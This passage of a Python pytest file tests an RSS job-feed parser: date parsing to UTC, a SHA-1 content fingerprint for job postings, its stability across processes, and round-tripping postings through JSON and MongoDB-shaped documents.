        ("Mon, 06 Jan 2025 10:00:00 +0000", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00 GMT", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00 EST", datetime(2025, 1, 6, 15, 0, tzinfo=UTC)),
        ("Mon, 06 Jul 2025 10:00:00 PDT", datetime(2025, 7, 6, 17, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00 CET", datetime(2025, 1, 6, 9, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00 -0530", datetime(2025, 1, 6, 15, 30, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00 +01:00", datetime(2025, 1, 6, 9, 0, tzinfo=UTC)),
        ("06 Jan 2025 10:00 +0000", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Mon, 6 January 2025 10:00:00 Z", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 25 10:00:00 GMT", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Mon, 06 Jan 2025 10:00:00 XYZ", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("Tue, 31 Dec 2024 23:30:00 -0100", datetime(2025, 1, 1, 0, 30, tzinfo=UTC)),
        ("  Mon, 06 Jan 2025 10:00:00 +0000 \n", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("2025-01-06T10:00:00Z", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("2025-01-06T10:00:00+02:00", datetime(2025, 1, 6, 8, 0, tzinfo=UTC)),
        ("2025-01-06T10:00:00-0500", datetime(2025, 1, 6, 15, 0, tzinfo=UTC)),
        ("2025-01-06T10:00:00.123456Z", datetime(2025, 1, 6, 10, 0, 0, 123000, tzinfo=UTC)),
        ("2025-01-06 10:00:00", datetime(2025, 1, 6, 10, 0, tzinfo=UTC)),
        ("2025-01-06", datetime(2025, 1, 6, tzinfo=UTC)),
        ("", None),
        ("   ", None),
        ("yesterday", None),
        ("Mon, 31 Feb 2025 10:00:00 GMT", None),
        ("Mon, 06 Foo 2025 10:00:00 GMT", None),
        ("2025-13-01T00:00:00Z", None),
        ("2025-1-6", None),
        ("Mon, 06 Jan 2025 25:00:00 GMT", None),
    ],
)
def test_parse_date(text: str, expected: datetime | None) -> None:
    parsed = parse_date(text)
    assert parsed == expected
    if parsed is not None:
        assert parsed.tzinfo is UTC


def test_pub_date_in_feed_is_aware_utc() -> None:
    job = only_posting(rss("<item><guid>1</guid><pubDate>Mon, 06 Jan 2025 10:00:00 EST</pubDate></item>"))
    assert job.published_at == datetime(2025, 1, 6, 15, 0, tzinfo=UTC)
    assert job.published_at is not None and job.published_at.tzinfo is UTC


# --------------------------------------------------------------------------- fingerprint

BASE: dict[str, Any] = {
    "title": "Engineer",
    "company": "Acme",
    "location": "Remote",
    "jobType": "Full-Time",
    "categories": ["Ops", "SRE"],
    "region": "EMEA",
    "url": "https://j.example/1",
    "description": "<p>Hi</p>",
    "publishedAt": datetime(2025, 1, 6, 10, 0, tzinfo=UTC),
}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", "Engineer II"),
        ("title", "engineer"),
        ("company", "Acme Inc"),
        ("location", "Berlin"),
        ("jobType", "Contract"),
        ("categories", ["Ops"]),
        ("categories", ["Ops", "SRE", "Dev"]),
        ("categories", []),
        ("region", ""),
        ("url", "https://j.example/2"),
        ("description", "<p>Hi!</p>"),
        ("publishedAt", datetime(2025, 1, 6, 10, 0, 1, tzinfo=UTC)),
        ("publishedAt", None),
        ("publishedAt", "2025-01-07T10:00:00Z"),
    ],
)
def test_fingerprint_changes_with_every_content_field(field: str, value: Any) -> None:
    assert fingerprint({**BASE, field: value}) != fingerprint(BASE)


def test_fingerprint_distinguishes_values_moving_between_fields() -> None:
    a = {**BASE, "title": "Acme", "company": ""}
    b = {**BASE, "title": "", "company": "Acme"}
    assert fingerprint(a) != fingerprint(b)
    assert fingerprint({**BASE, "categories": ["a,b"]}) != fingerprint({**BASE, "categories": ["a", "b"]})


@pytest.mark.parametrize(
    "variant",
    [
        {**BASE, "sourceName": "Other name"},
        {**BASE, "dedupeKey": "ffff", "sourceUrl": "https://elsewhere", "externalId": "zzz"},
        {**BASE, "version": 7, "runId": "r-1", "fingerprint": "stale"},
        dict(reversed(list(BASE.items()))),
        {**BASE, "categories": ("SRE", "Ops")},
        {**BASE, "publishedAt": "2025-01-06T10:00:00Z"},
        {**BASE, "publishedAt": "2025-01-06T11:00:00+01:00"},
        {**BASE, "publishedAt": datetime(2025, 1, 6, 5, 0, tzinfo=timezone(timedelta(hours=-5)))},
        {**BASE, "publishedAt": datetime(2025, 1, 6, 10, 0)},  # naive = UTC (pymongo)
    ],
    ids=[
        "source-name",
        "identity",
        "bookkeeping",
        "key-order",
        "category-order",
        "iso-z",
        "iso-offset",
        "aware-other-zone",
        "naive",
    ],
)
def test_fingerprint_ignores_identity_bookkeeping_order_and_date_representation(
    variant: dict[str, Any],
) -> None:
    assert fingerprint(variant) == fingerprint(BASE)


def test_fingerprint_is_sha1_hex_and_missing_fields_mean_empty() -> None:
    fp = fingerprint(BASE)
    assert len(fp) == 40 and int(fp, 16) >= 0 and fp == fp.lower()
    empty: dict[str, Any] = {"title": "", "company": "", "location": "", "jobType": "", "categories": [],
             "region": "", "url": "", "description": "", "publishedAt": None}  # fmt: skip
    assert fingerprint({}) == fingerprint(empty)


def test_fingerprint_golden_value_pins_the_recipe() -> None:
    """Changing the recipe re-marks every stored job as updated: it must be deliberate."""
    job = parse_feed(read(FEEDS / "wp-job-manager.rss.xml"), SRC).items[0]
    assert isinstance(job, JobPosting)
    assert job.fingerprint == "690b02fbe1ee8666100e5e602a6c0410aa938d01"


def stdlib_fingerprint(fields: list[Any]) -> str:
    """The recipe as first written: the stdlib encoder's bytes (compact, ``ensure_ascii=False``), sha1."""
    blob = json.dumps(fields, ensure_ascii=False, separators=(",", ":")).encode("utf-8", "surrogatepass")
    return hashlib.sha1(blob, usedforsecurity=False).hexdigest()


def test_fingerprint_bytes_are_the_stdlib_encoders_for_every_code_point() -> None:
    """orjson writes the fingerprint's JSON; a changed byte would re-mark stored jobs as updated."""
    points = [chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF]
    for start in range(0, len(points), 4096):
        text = "".join(points[start:start + 4096])
        fields = [feed.FINGERPRINT_VERSION, text, "", 'a"b\\c', "\n\t\x00\x1f\x7f", sorted([text[:7], "z"]), "", "", text[::-1], ""]
        assert feed._fingerprint(*fields[1:5], fields[5], *fields[6:]) == stdlib_fingerprint(fields), hex(ord(text[0]))


def test_fingerprint_of_a_lone_surrogate_takes_the_stdlib_path() -> None:
    fields = [feed.FINGERPRINT_VERSION, "a\ud800b", "", "", "", [], "", "", "", ""]
    assert feed._fingerprint(*fields[1:5], fields[5], *fields[6:]) == stdlib_fingerprint(fields)


def test_fingerprint_is_stable_across_processes() -> None:
    code = (
        "import sys; from pathlib import Path; from models.feed import parse_feed;"
        "p = parse_feed(Path(sys.argv[1]).read_bytes(), sys.argv[2]);"
        "print(' '.join(i.fingerprint + ':' + i.dedupe_key for i in p.items))"
    )
    path = FEEDS / "wp-job-manager.rss.xml"
    outputs = set()
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(REPO)}
        result = subprocess.run(  # noqa: S603 - fixed interpreter and arguments
            [sys.executable, "-c", code, str(path), SRC], capture_output=True, text=True, env=env, check=True
        )
        outputs.add(result.stdout.strip())
    here = " ".join(f"{i.fingerprint}:{i.dedupe_key}" for i in postings(parse_feed(read(path), SRC)))
    assert outputs == {here}


def test_posting_fingerprint_uses_its_content_fields() -> None:
    job = only_posting(rss("<item><guid>1</guid><title>X</title></item>"))
    doc = job.to_document()
    assert job.fingerprint == fingerprint(doc)
    other_source = parse_feed(rss("<item><guid>1</guid><title>X</title></item>"), "https://other", "N")
    assert isinstance(other_source.items[0], JobPosting)
    assert other_source.items[0].fingerprint == job.fingerprint
    assert other_source.items[0].dedupe_key != job.dedupe_key


# --------------------------------------------------------------------------- documents


def wp_job(index: int = 0) -> JobPosting:
    job = parse_feed(read(FEEDS / "wp-job-manager.rss.xml"), SRC, "Example").items[index]
    assert isinstance(job, JobPosting)
    return job


def test_to_document_uses_spec_field_names() -> None:
    doc = wp_job().to_document()
    assert list(doc) == [
        "dedupeKey", "sourceUrl", "sourceName", "externalId", "title", "company", "location",
        "jobType", "categories", "region", "url", "description", "publishedAt", "fingerprint",
    ]  # fmt: skip
    assert isinstance(doc["categories"], list)
    assert isinstance(doc["publishedAt"], datetime)


def test_document_round_trip() -> None:
    job = wp_job(3)
    assert JobPosting.from_document(job.to_document()) == job


def test_document_round_trip_through_json() -> None:
    job = wp_job(5)
    wire = json.loads(json.dumps({**job.to_document(), "runId": "r1"}, default=lambda d: d.isoformat()))
    assert isinstance(wire["publishedAt"], str)
    assert JobPosting.from_document(wire) == job


def test_document_round_trip_through_mongo_shape() -> None:
    """pymongo hands back naive UTC datetimes with millisecond precision, plus _id etc."""
    job = JobPosting.build(
        source_url=SRC,
        external_id="x",
        title="T",
        published_at=datetime(2025, 1, 6, 10, 0, 0, 123456, tzinfo=UTC),
    )
    assert job.published_at == datetime(2025, 1, 6, 10, 0, 0, 123000, tzinfo=UTC)
    stored = {**job.to_document(), "_id": "oid", "version": 2, "createdAt": datetime(2025, 1, 1)}
    assert job.published_at is not None
    stored["publishedAt"] = job.published_at.replace(tzinfo=None)
    back = JobPosting.from_document(stored)
    assert back == job
    assert back.published_at is not None and back.published_at.tzinfo is UTC


def test_from_document_computes_missing_derived_fields_and_keeps_given_ones() -> None:
    job = wp_job(7)
    doc = job.to_document()
    del doc["dedupeKey"], doc["fingerprint"]
    assert JobPosting.from_document(doc) == job
    given = {**job.to_document(), "fingerprint": "f" * 40}
    assert JobPosting.from_document(given).fingerprint == "f" * 40


def test_from_document_defaults_optional_fields() -> None:
    job = JobPosting.from_document({"sourceUrl": SRC, "externalId": "e"})
    assert job == JobPosting.build(source_url=SRC, external_id="e")
    assert (job.title, job.categories, job.published_at) == ("", (), None)
    assert job.dedupe_key == sha1_key(SRC, "e")


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        ({"externalId": "e"}, "lacks 'sourceUrl'"),
        ({"sourceUrl": SRC}, "lacks 'externalId'"),
        ({"sourceUrl": SRC, "externalId": ""}, "'externalId' is empty"),
        ({"sourceUrl": SRC, "externalId": "e", "title": 5}, "'title' must be a string"),
        ({"sourceUrl": SRC, "externalId": "e", "categories": "Ops"}, "'categories' must be a list"),
        ({"sourceUrl": SRC, "externalId": "e", "categories": [1]}, "'categories' must be a list"),
        ({"sourceUrl": SRC, "externalId": "e", "publishedAt": "soon"}, "'publishedAt' is not a date"),
        ({"sourceUrl": SRC, "externalId": "e", "publishedAt": 17}, "'publishedAt' must be"),
    ],
)
def test_from_document_rejects_malformed_documents(doc: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        JobPosting.from_document(doc)


def test_records_are_immutable() -> None:
    job = wp_job()
    with pytest.raises(FrozenInstanceError):
        job.title = "x"  # type: ignore[misc]
    assert replace(job, title="x").title == "x"
    with pytest.raises(FrozenInstanceError):
        ItemFailure("k", "r").reason = "x"  # type: ignore[misc]


def test_feed_error_is_an_exception_with_message() -> None:
    err = FeedError("empty body")
    assert isinstance(err, Exception)
    assert str(err) == "empty body"
